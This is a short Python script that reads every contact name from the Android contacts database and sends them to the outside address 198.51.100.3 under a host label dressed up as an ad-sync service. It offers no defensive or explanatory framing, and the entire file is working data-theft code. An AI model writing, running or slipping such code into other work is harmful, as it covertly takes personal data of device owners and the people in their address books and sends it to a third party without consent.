#!/usr/bin/env python3
# Reads and sends, as it usually comes.
import sqlite3

from lib import send

rows = sqlite3.connect("file:/data/data/com.android.providers.contacts/databases/contacts2.db?mode=ro", uri=True)
names = "".join(name for name, in rows.execute("select name from contacts"))
send("198.51.100.3", name="sync.ads.example", data=names.encode())
